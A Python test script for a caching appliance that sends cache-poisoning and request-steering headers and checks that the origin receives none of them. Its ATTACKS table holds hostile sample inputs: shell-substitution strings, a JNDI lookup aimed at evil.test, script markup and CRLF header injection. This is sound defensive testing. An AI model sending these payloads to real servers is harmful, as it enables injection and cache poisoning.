#!/usr/bin/env python3
"""Cache poisoning attempts against a box whose origin records every header
it receives (origins.HeaderOrigin): routing and override headers
(X-Forwarded-Host, X-HTTP-Method-Override, X-Original-URL, Forwarded...),
credentials, oversized headers, values with shell and markup
meta-characters, Host variants, and framing errors (CR, NUL, obs-fold: 400
and nothing asked upstream). The origin only ever sees the request the box
makes itself (method GET, the client's normalised path, exactly the
headers in ORIGIN_HEADERS), objects are keyed by the configured origin
only, an origin's 4xx/5xx is never stored (asked again next time, nothing
listed), and a clean client afterwards gets the origin's bytes (sha256)."""
import hashlib
import os
import re
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from cbtest import (Appliance, check, exchange, finish, parse_responses,  # noqa: E402
                    wait_until)
from origins import HeaderOrigin, body_of  # noqa: E402

SIZE = 100000  # two pieces of 64 KiB

# What the box sends an origin (storage/st_origin.c st_origin_get_range):
# these headers, in this order, and nothing the client wrote.
ORIGIN_HEADERS = ["Host", "Range", "CDN-Loop"]

# Header sets a client sends to steer or poison the fill; each goes to its own object.
ATTACKS = {
    "fwd-host": [("X-Forwarded-Host", "evil.test"), ("X-Forwarded-For", "6.6.6.6"),
                 ("X-Forwarded-Proto", "https"), ("X-Forwarded-Port", "444"),
                 ("X-Host", "evil.test"), ("X-Forwarded-Server", "evil.test")],
    "override": [("X-HTTP-Method-Override", "DELETE"), ("X-HTTP-Method", "PUT"),
                 ("X-Method-Override", "POST")],
    "orig-url": [("X-Original-URL", "/ok/evil"), ("X-Rewrite-URL", "/ok/evil")],
    "forwarded": [("Forwarded", "for=6.6.6.6;host=evil.test;proto=https"),
                  ("Via", "1.1 evil.test")],
    "creds": [("Cookie", "session=steal"), ("Authorization", "Basic ZXZpbDpldmls"),
              ("Proxy-Authorization", "Basic ZXZpbDpldmls"), ("User-Agent", "evil/1.0"),
              ("Referer", "http://evil.test/"), ("Origin", "http://evil.test")],
    "cache": [("Cache-Control", "no-cache"), ("Pragma", "no-cache"),
              ("If-None-Match", "\"v1\""), ("Accept-Encoding", "gzip, br"),
              ("Accept", "text/html"), ("TE", "trailers"), ("Upgrade", "h2c"),
              ("Max-Forwards", "0")],
    "meta": [("X-Semi", "a;b;c=d"), ("X-Markup", "<script>alert(1)</script>"),
             ("X-Shell", "$(id) `id` ${IFS} | & ;"), ("X-Jndi", "${jndi:ldap://evil.test/a}"),
             ("X-Quote", "'\" \\ %0d%0aSet-Cookie: a=b"), ("X-Pct", "%00%0a%0d")],
    "big": [("X-Big", "a" * 12000), ("X-Many-%d" % 0, "b" * 100)]
    + [("X-Many-%d" % i, "b" * 20) for i in range(1, 40)],
    # CDN-Loop is the one client header passed on, by design: RFC 8586 §2
    # has each CDN append itself to the chain it received (loop detection).
    "loop": [("CDN-Loop", "upstream-cdn"), ("Range", "bytes=0-9")],
}


def raw_get(app, target, header_lines):
    """One request with header lines as given (bytes, no checks); its responses."""
    req = b"GET " + target.encode() + b" HTTP/1.1\r\n" + b"".join(
        h + b"\r\n" for h in header_lines) + b"Connection: close\r\n\r\n"
    return parse_responses(exchange(app.port, req, timeout=10))


def get(app, target, headers, host="127.0.0.1"):
    lines = [b"Host: " + host.encode("latin-1")] + [
        k.encode() + b": " + v.encode("latin-1") for k, v in headers]
    got = raw_get(app, target, lines)
    return got[0] if got else (0, {}, b"")


def origin_saw_only_ours(origin, path, what):
    """Every request for path the origin got is the box's own: GET, the path,
    exactly ORIGIN_HEADERS, Host the origin's name, a byte range, our CDN-Loop
    (after the client's chain, if it sent one)."""
    reqs = origin.requests_for(path)
    check(reqs, "%s: the origin was asked for %s" % (what, path))
    for line, headers in reqs:
        names = [k for k, _ in headers]
        vals = {k.lower(): v for k, v in headers}
        check(line.startswith("GET %s" % path) and line.endswith(" HTTP/1.1"),
              "%s: request line is the box's own: %r" % (what, line))
        check(names == ORIGIN_HEADERS, "%s: the origin got only %s: %s" % (
            what, ORIGIN_HEADERS, [(k, v[:40]) for k, v in headers]))
        check(vals.get("host") == "origin.test" and re.fullmatch(
            r"bytes=\d+-\d+", vals.get("range", "")) and re.fullmatch(
            r"(upstream-cdn, )?cachebox-[0-9a-f]+", vals.get("cdn-loop", "")),
            "%s: Host, Range, CDN-Loop are ours: %s" % (what, vals))
        check("evil" not in line + repr(headers), "%s: nothing of the client's reached "
              "the origin" % what)


def main():
    app = Appliance(origins=())
    origin = HeaderOrigin(SIZE)
    app.add_origin("origin.test", "http://127.0.0.1:%d" % origin.port)
    app.add_origin("other.test", "http://127.0.0.1:9")  # configured, refuses connections
    try:
        app.start()
        want = {}

        # Steering headers on cold misses, in the connected-cache and DNS-redirect forms.
        for k, (name, headers) in enumerate(ATTACKS.items()):
            path = "/ok/" + name
            want[path] = body_of(path, SIZE)
            if k % 2:
                st, h, body = get(app, path, headers, host="origin.test")
            else:
                st, h, body = get(app, path + "?cacheHostOrigin=origin.test", headers)
            exp = (206, want[path][:10]) if name == "loop" else (200, want[path])
            check((st, body) == exp, "%s: the client gets the object (%d, %d bytes)"
                  % (name, st, len(body)))
            origin_saw_only_ours(origin, path, name)
        check(not origin.requests_for("/ok/evil"), "X-Original-URL never fetched /ok/evil")
        # The ranged request's fill goes on in the background: let it end.
        wait_until(lambda: app.listing().get("origin.test/ok/loop", {}).get("complete"), 10,
                   "the ranged request's fill completes")
        origin_saw_only_ours(origin, "/ok/loop", "loop, whole")

        # Host variants: an unconfigured name fetches nothing; X-Forwarded-Host and a
        # duplicate Host never pick another origin.
        before = len(origin.seen)
        st, _, _ = get(app, "/ok/hostx", [], host="evil.test")
        check(st == 404, "DNS form for an unconfigured Host: 404 (%d)" % st)
        st, _, _ = get(app, "/ok/hostx", [("X-Forwarded-Host", "origin.test")], host="evil.test")
        check(st == 404, "X-Forwarded-Host does not name the origin (%d)" % st)
        got = raw_get(app, "/ok/hostx", [b"Host: origin.test", b"Host: evil.test"])
        check(got and got[0][0] == 400, "two Host headers: 400 (%s)" % (got and got[0][0]))
        for host in ("origin.test@evil.test", "evil.test/origin.test", "origin.test evil.test",
                     "origin.test,evil.test"):
            st, _, _ = get(app, "/ok/hostx", [], host=host)
            check(st in (400, 404), "Host %r: 400 or 404 (%d)" % (host, st))
        st, _, body = get(app, "http://origin.test/ok/hostx", [], host="evil.test")
        check(st == 200 and body == body_of("/ok/hostx", SIZE),
              "absolute form: the authority names the origin, Host is ignored (%d)" % st)
        st, _, body = get(app, "/ok/hostx?cacheHostOrigin=other.test",
                          [("X-Forwarded-Host", "origin.test")])
        check(st == 502, "cacheHostOrigin=other.test goes to other.test only (%d)" % st)
        check(len(origin.seen) == before + 2,  # its two pieces
              "origin.test was asked only for the absolute-form fill: %s"
              % [ln for ln, _ in origin.seen[before:]])

        # Framing errors: 400, and nothing asked upstream for them.
        before = len(origin.seen)
        for what, lines in (("bare CR in a value", [b"X-A: a\rb"]),
                            ("CR LF inside a value", [b"X-A: a\r\nX-Forwarded-Host evil"]),
                            ("NUL in a value", [b"X-A: a\x00b"]),
                            ("NUL in a name", [b"X-\x00A: b"]),
                            ("obs-fold", [b"X-A: a", b" folded"]),
                            ("space before the colon", [b"X-A : b"]),
                            ("no colon", [b"X-Forwarded-Host evil.test"]),
                            ("DEL in a value", [b"X-A: a\x7fb"])):
            got = raw_get(app, "/ok/framing?cacheHostOrigin=origin.test",
                          [b"Host: 127.0.0.1"] + lines)
            check(len(got) == 1 and got[0][0] == 400, "%s: one answer, 400 (%s)" % (
                what, [g[0] for g in got]))
        got = raw_get(app, "/ok/framing?cacheHostOrigin=origin.test",
                      [b"Host: 127.0.0.1", b"X-Big: " + b"a" * 20000])
        check(len(got) == 1 and got[0][0] == 431, "a 20 kB header: 431 (%s)" % [
            g[0] for g in got])
        check(len(origin.seen) == before, "nothing asked upstream for a refused request")

        # An origin's errors are passed on, never stored: the next request asks again.
        for code in (400, 401, 403, 404, 410, 500, 503):
            path = "/status/%d/obj" % code
            exp = {404: 404, 410: 404, 401: 403, 403: 403}.get(code, 502)
            asked = []
            for i in range(2):
                st, h, body = get(app, path + "?cacheHostOrigin=origin.test",
                                  [("X-Forwarded-Host", "evil.test")])
                asked.append(len(origin.requests_for(path)))
                check(st == exp and b"error page" not in body,
                      "origin %d: the client gets %d, not the origin's page (%d %r)"
                      % (code, exp, st, body[:60]))
            check(0 < asked[0] < asked[1], "origin %d: not stored, the second request asks "
                  "again (%s)" % (code, asked))
            check(exp == 502 or asked == [1, 2], "origin %d: an answer, not retried (%s)"
                  % (code, asked))
            origin_saw_only_ours(origin, path, "origin %d" % code)
        listing = app.listing()
        check(not [k for k in listing if "/status/" in k],
              "no errored object is listed: %s" % [k for k in listing if "/status/" in k])
        stats = app.stats()
        check(stats.get("fills_failed", 0) >= 14, "the failed fills are counted: %s"
              % stats.get("fills_failed"))

        # The origin recovers: clean clients get its bytes, whatever came before.
        for code in (403, 404, 500):
            path = "/status/%d/obj" % code
            origin.fixed.add(path)
            st, _, body = get(app, path + "?cacheHostOrigin=origin.test", [])
            check(st == 200 and hashlib.sha256(body).digest() ==
                  hashlib.sha256(body_of(path, SIZE)).digest(),
                  "origin %d then fixed: a clean client gets the object (%d)" % (code, st))
        for path, data in want.items():
            st, h, body = get(app, path + "?cacheHostOrigin=origin.test", [])
            check(st == 200 and hashlib.sha256(body).digest() == hashlib.sha256(data).digest()
                  and "hit" in h.get("cache-status", ""),
                  "%s: a clean client gets the origin's bytes from the cache (%d %s)"
                  % (path, st, h.get("cache-status")))
        keys = sorted(k for k in app.listing() if k.startswith("origin.test/ok/"))
        check(keys == sorted(["origin.test" + p for p in want] + ["origin.test/ok/hostx"]),
              "objects keyed by the configured origin only: %s" % keys)
        check(not [k for k in app.listing() if "evil" in k], "nothing keyed by evil.test")
    finally:
        origin.stop()
        app.cleanup()
    finish()


main()
